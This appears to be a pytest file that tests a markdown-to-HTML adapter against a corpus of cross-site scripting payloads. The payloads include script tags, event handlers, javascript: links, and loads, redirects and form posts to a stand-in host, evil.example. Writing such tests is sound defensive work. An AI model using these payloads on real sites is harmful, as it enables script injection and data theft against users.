"""A02, A11: forty texts that mean harm come out as text, and no link of any scheme is made."""

from html.parser import HTMLParser

import pytest

from core.adapters.markdown import to_html

CORPUS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror='alert(1)'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=p></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<style>@import '//evil.example';</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<link rel=stylesheet href=//evil.example>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<math><mtext></p><script>alert(1)</script></mtext></math>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example)",
    "![x](http://evil.example/x.png)",
    "<javascript:alert(1)>",
    "<http://evil.example>",
    "[x]: javascript:alert(1)\n\n[x]",
    "http://evil.example www.evil.example",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "<td colspan=100000>x</td>",
    "# <img src=x onerror=alert(1)>",
    "- <script>alert(1)</script>",
    "> <iframe src=//evil.example>",
    "**<b onmouseover=alert(1)>x</b>**",
    "`<script>alert(1)</script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<script>alert(1)</script>",
)
HARMLESS = {
    *("h2", "h3", "h4", "p", "ul", "ol", "li", "strong", "em", "blockquote", "br", "hr", "div"),
    *("table", "thead", "tbody", "tr", "th", "td"),
}
GOLDEN = {
    "<script>alert(1)</script>": "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>\n",
    "[x](javascript:alert(1))": "<p>[x](javascript:alert(1))</p>\n",
    "- <img src=x onerror=alert(1)>": "<ul>\n<li>&lt;img src=x onerror=alert(1)&gt;</li>\n</ul>\n",
    "# a *b* <b>c</b>": "<h2>a <em>b</em> &lt;b&gt;c&lt;/b&gt;</h2>\n",
}


class Found(HTMLParser):
    def __init__(self, page):
        super().__init__()
        self.tags, self.attributes = set(), set()
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}


@pytest.mark.parametrize("text", CORPUS, ids=range(len(CORPUS)))
def test_a02_a11_a_harmful_text_is_shown_as_text(text):
    found = Found(str(to_html(text)))

    assert found.tags <= HARMLESS
    assert found.attributes <= {"scope", "start", "class", "role", "aria-label", "tabindex"}


@pytest.mark.parametrize("text", GOLDEN)
def test_a02_what_comes_out_is_this_very_text(text):
    assert str(to_html(text)) == GOLDEN[text]
